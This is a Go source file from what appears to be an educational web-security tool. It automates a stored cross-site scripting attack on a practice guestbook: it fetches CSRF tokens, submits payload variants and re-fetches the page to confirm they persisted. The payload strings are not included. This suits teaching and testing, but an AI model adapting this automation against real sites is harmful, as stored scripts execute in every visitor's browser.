/*
Author: KleaSCM
Email: KleaSCM@gmail.com
File: stored.go
Description: Stored XSS vector module. Two-phase verification: the payload is
submitted through the guestbook form, then the page is fetched again in a
separate request. Only persistence across that second fetch counts as success;
a payload echoed in the store response but absent from the re-fetch is filtered.
*/

package strategies

import (
	"context"
	"errors"
	"fmt"
	"net/url"
	"strings"

	"github.com/kleascm/hackbench/pkg/analysis"
	"github.com/kleascm/hackbench/pkg/core"
	"github.com/kleascm/hackbench/pkg/execution"
	"github.com/kleascm/hackbench/pkg/logging"
	"github.com/kleascm/hackbench/pkg/reporting"
	"github.com/kleascm/hackbench/pkg/web"
)

// StoredPath is the guestbook page for the stored vector.
const StoredPath = "vulnerabilities/xss_s/"

// GuestbookName is the benign author name used on every guestbook entry.
const GuestbookName = "XSS Test User"

// StoredModule walks through the stored vector against the guestbook.
type StoredModule struct {
	target   *core.Target
	client   *execution.Client
	session  *web.SessionManager
	injector *Injector
	logger   *logging.Logger
	variants []Variant
	report   *core.VectorReport
}

// NewStoredModule builds the stored vector module. The session manager is
// needed because the guestbook form carries a single-use CSRF token.
func NewStoredModule(target *core.Target, client *execution.Client, session *web.SessionManager, injector *Injector, logger *logging.Logger) *StoredModule {
	return &StoredModule{
		target:   target,
		client:   client,
		session:  session,
		injector: injector,
		logger:   logger,
		variants: StoredVariants(),
		report:   &core.VectorReport{Vector: core.VectorStored},
	}
}

// Vector identifies this module.
func (m *StoredModule) Vector() core.Vector { return core.VectorStored }

// Description summarizes the module for listings.
func (m *StoredModule) Description() string {
	return "Persistent payload via the guestbook, verified by a separate re-fetch"
}

// Report returns the attempts accumulated so far.
func (m *StoredModule) Report() *core.VectorReport { return m.report }

func (m *StoredModule) point() core.InjectionPoint {
	return core.InjectionPoint{Field: "mtxMessage", Method: "POST", Surface: core.SurfaceStored}
}

// Steps returns the ordered walkthrough for the stored vector.
func (m *StoredModule) Steps() []core.Step {
	steps := []core.Step{
		{
			Title:  "Understanding the target",
			Prompt: "Proceed to examine the guestbook?",
			Run: func(ctx context.Context) error {
				m.logger.Narrative(reporting.Intro(core.VectorStored))
				m.logger.Narrative(reporting.Impact(core.VectorStored))
				return nil
			},
		},
		{
			Title:  "Inspecting the guestbook form",
			Prompt: "Fetch the guestbook page?",
			Run:    m.runInspect,
		},
	}

	for i, variant := range m.variants {
		index, v := i, variant
		steps = append(steps, core.Step{
			Title:  fmt.Sprintf("Payload attempt %d (%s)", index+1, v.Name),
			Prompt: "Submit this payload to the guestbook?",
			Run: func(ctx context.Context) error {
				return m.runVariant(ctx, index, v)
			},
		})
	}

	steps = append(steps, core.Step{
		Title: "Prevention",
		Run: func(ctx context.Context) error {
			if m.report.Succeeded {
				m.logger.Narrative(reporting.Prevention(core.VectorStored))
			}
			return nil
		},
	})
	return steps
}

// runInspect fetches the guestbook and narrates the form layout.
func (m *StoredModule) runInspect(ctx context.Context) error {
	pageURL := m.target.URL(StoredPath)
	res := m.client.Get(ctx, pageURL, nil)
	if res.Failed() {
		return fmt.Errorf("failed to fetch guestbook page: %w", res.Err)
	}
	if web.SessionExpired(res.Response.Body) {
		return core.ErrSessionExpired
	}

	fieldNote := "Form fields: txtName (author), mtxMessage (body), btnSign (submit)."
	if fields, err := web.FormInputs(res.Response.Body); err == nil && len(fields) > 0 {
		fieldNote = "Discovered form fields: " + strings.Join(fields, ", ")
	}
	m.logger.Narrative(analysis.RenderBreakdown(pageURL, m.point(),
		fieldNote,
		"The message field is persisted and rendered to every visitor of the page."))
	return nil
}

// runVariant submits one payload through the guestbook, then verifies
// persistence with a separate fetch. Classification runs against the second
// fetch; a transient echo in the store response alone is downgraded to
// filtered, never success.
func (m *StoredModule) runVariant(ctx context.Context, index int, variant Variant) error {
	if m.report.Succeeded {
		return nil
	}

	m.logger.Payload(variant.Payload, variant.Explanation)

	pageURL := m.target.URL(StoredPath)
	token, err := m.session.FetchToken(ctx, StoredPath)
	if err != nil {
		if errors.Is(err, core.ErrSessionExpired) {
			return core.ErrSessionExpired
		}
		return fmt.Errorf("failed to fetch guestbook token: %w", err)
	}

	message := variant.Payload + "\n<!-- UA: " + m.client.UserAgent() + " -->"
	form := url.Values{
		"txtName":    {GuestbookName},
		"mtxMessage": {message},
		"btnSign":    {"Sign Guestbook"},
	}
	if token != "" {
		form.Set("user_token", token)
	}

	storeRes := m.client.PostForm(ctx, pageURL, form)
	if storeRes.Failed() {
		attempt := m.injector.Attempt(core.VectorStored, index, variant.Payload, m.point(), storeRes.Request, nil, storeRes.Err)
		m.report.Record(attempt)
		m.logger.ExplainFailure(
			fmt.Sprintf("Payload %d submission failed", index+1),
			"The guestbook POST never completed; the payload was not stored.",
			"",
		)
		return nil
	}
	if web.SessionExpired(storeRes.Response.Body) {
		return core.ErrSessionExpired
	}

	// Phase two: a fresh GET proves persistence independent of the echo.
	verifyRes := m.client.Get(ctx, pageURL, nil)
	if verifyRes.Failed() {
		attempt := m.injector.Attempt(core.VectorStored, index, variant.Payload, m.point(), verifyRes.Request, nil, verifyRes.Err)
		m.report.Record(attempt)
		m.logger.ExplainFailure(
			fmt.Sprintf("Payload %d could not be verified", index+1),
			"The verification fetch failed. Stored success requires seeing the payload in a separate request.",
			"",
		)
		return nil
	}
	if web.SessionExpired(verifyRes.Response.Body) {
		return core.ErrSessionExpired
	}

	attempt := m.injector.Attempt(core.VectorStored, index, variant.Payload, m.point(), storeRes.Request, verifyRes.Response, nil)

	// A payload visible in the store response but gone from the re-fetch was
	// neutralized server-side before persistence.
	if attempt.Outcome == core.OutcomeBlocked && execution.Reflects(storeRes.Response, variant.Payload) {
		attempt.Outcome = core.OutcomeFiltered
		m.logger.Info("Transient echo downgraded to filtered", map[string]interface{}{
			"attempt_id": attempt.ID,
			"variant":    index,
		})
	}
	m.report.Record(attempt)

	switch attempt.Outcome {
	case core.OutcomeSuccess:
		m.logger.ExplainSuccess(
			fmt.Sprintf("Payload %d persisted in the guestbook", index+1),
			"The payload survived storage and renders unencoded on every page load. Every visitor executes it.",
		)
		m.logger.Narrative(analysis.RenderEvidence(verifyRes.Response, variant.Payload, "stored payload in re-fetched guestbook"))
	default:
		m.logger.ExplainFailure(
			fmt.Sprintf("Payload %d was %s", index+1, attempt.Outcome),
			"The payload did not persist in executable form across a separate fetch.",
			nextVariantHint(index, len(m.variants)),
		)
		m.logger.Narrative(analysis.RenderEvidence(verifyRes.Response, variant.Payload, "guestbook state after submission"))
	}
	return nil
}
